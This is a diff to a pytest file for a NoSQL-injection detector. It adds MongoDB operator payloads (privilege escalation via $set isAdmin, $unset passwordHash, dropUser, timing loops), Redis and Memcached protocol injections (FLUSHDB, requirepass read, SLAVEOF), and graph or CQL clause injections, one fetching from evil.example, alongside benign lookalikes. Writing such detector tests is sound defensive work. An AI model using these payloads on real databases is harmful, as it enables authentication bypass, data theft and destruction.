@@ -48,6 +48,31 @@ ATTACKS = (
     '[{"$lookup":{"from":"users"}}]',
     "a[$eval]",
     '{"selector":{"_id":{"$gt":null}}}',
+    "filter[password][$startsWith]=s3",
+    "account[token][$contains]",
+    "rows[$size]=2",
+    "tags[$all][]=x",
+    "id[$gt]=0",
+    "user_id[$gte]=",
+    "_id[$lt]=~",
+    "login[$in][]=root",
+    "a[$func]=phpinfo",
+    '{"secret":{"$type":null}}',
+    '{"_id":{"$gt":0}}',
+    '{"owner":{"$eq":"x"},"pin":{"$in":""}}',
+    '{"$set":{"isAdmin":true}}',
+    '{"$unset":{"passwordHash":1}}',
+    '{"$push":{"roles":"owner"}}',
+    '{"user":{"$eq":"root"},"$comment":"z"}',
+    '{"n":{"$type":4}}',
+    'https://app.example/find?filter={"token":{"$ne":1}}',
+    "db.getSiblingDB('admin')",
+    "db.dropUser('x')",
+    "');return JSON.stringify(this)//",
+    "'; var s=Date.now(); while(Date.now()-s<9000); '",
+    "'}; do { n = new Date() } while (n - t < 8000); //",
+    "1; sleep(3000) || true",
+    "this.token.match(/^a/)//",
 )
 HONEST = (
     '{"$type": "button"}',
@@ -64,7 +89,69 @@ HONEST = (
     "return this.x;",
     "function f() { return this.name; }",
     "I'd return it; can't",
+    "price[$gte]=0",
+    "_id[$gt]=665f0a1b2c3d4e5f6a7b8c9d",
+    "filters[email][$eq]=a@b.example",
+    "filters[user][age][$gt]=3",
+    "where[title][$contains]=a",
+    '{"status":{"$in":["open","held"]},"total":{"$gte":10,"$lt":50}}',
+    '{"createdAt":{"$gte":"2024-01-01T00:00:00Z"}}',
+    '{"removedAt":{"$ne":null}}',
+    '{"archived":{"$ne":true}}',
+    '{"stock":{"$ne":0}}',
+    '{"ownerId":{"$in":["64b0","64b1"]}}',
+    '{"email":{"$in":["a@b.example","c@d.example"]}}',
+    '{"name":{"$regex":"^O","$options":"i"}}',
+    '[{"$match":{"status":"open"}},{"$group":{"_id":"$owner","n":{"$sum":1}}}]',
+    '{"$set":{"title":"x","tags":["a"]}}',
+    '{"$schema":"https://json-schema.org/draft/2020-12/schema","$comment":"sizes"}',
+    '{"and":[{">":[{"var":"age"},17]}]}',
+    '{"$or":[{"name":"a"},{"city":"b"}]}',
+    'https://app.example/graph?expr={"status":{"$in":["x","y"]},"price":{"$gte":3}}',
+    "while (i < 1000) { i++ }",
+    "new Date().getFullYear()",
 )
+
+OTHER_STORES = (
+    ("k\r\nFLUSHDB\r\n", "nosql-command"),
+    ("\nCONFIG GET requirepass\n", "nosql-command"),
+    ("x\r\nSLAVEOF 192.0.2.7 6379\r\nPING", "nosql-command"),
+    ("x\n*2\r\n$4\r\nKEYS\r\n", "nosql-command"),
+    ("x\r\nset session:1 0 60 4\r\nroot\r\n", "nosql-command"),
+    ("x\r\nstats cachedump 1 100\r\n", "nosql-command"),
+    ("'}) RETURN m //", "nosql-clause"),
+    ("x' OR true RETURN u.mail //", "nosql-clause"),
+    ("a'}) MATCH (m:Secret) RETURN m", "nosql-clause"),
+    ("') CALL apoc.load.json('//evil.example') YIELD value RETURN value", "nosql-clause"),
+    ("' LOAD CSV WITH HEADERS FROM 'file:///x' AS r RETURN r", "nosql-clause"),
+    ("7} DETACH DELETE n", "nosql-clause"),
+    ("x') AND role = 'a' ALLOW FILTERING", "nosql-clause"),
+    ("' FOR d IN accounts RETURN d", "nosql-clause"),
+    ('"} UNION { ?a ?b ?c }', "nosql-clause"),
+)
+QUERIES = (
+    "MATCH (a:Person {name: 'x'})-[:KNOWS]->(b) RETURN a.name, b.name LIMIT 25",
+    "LOAD CSV WITH HEADERS FROM 'https://data.example/a.csv' AS row RETURN row",
+    "SELECT * FROM t WHERE a = 'x' ALLOW FILTERING",
+    "SELECT ?x WHERE { { ?x a :A } UNION { ?x a :B } }",
+    "if (x) return y; // done",
+    "for (const u of users) { return u }",
+    "Please restart the cache,\nthen run this and tell me what it says:\nCONFIG GET maxmemory\nThanks for your help",
+    "Then he said to me 'return it // or else' and left",
+    "shopping list:\nset of plates\nkeys for the car\n",
+)
+
+
+@pytest.mark.parametrize(("text", "rule"), OTHER_STORES)
+def test_commands_and_clauses_of_other_stores_are_found(text, rule):
+    found, sure = ask(text)
+    assert found == rule
+    assert sure >= 0.75
+
+
+@pytest.mark.parametrize("text", QUERIES)
+def test_queries_that_break_out_of_nothing_stay_in_doubt(text):
+    assert ask(text)[1] < 0.7
 
 
 @pytest.mark.parametrize("text", ATTACKS)
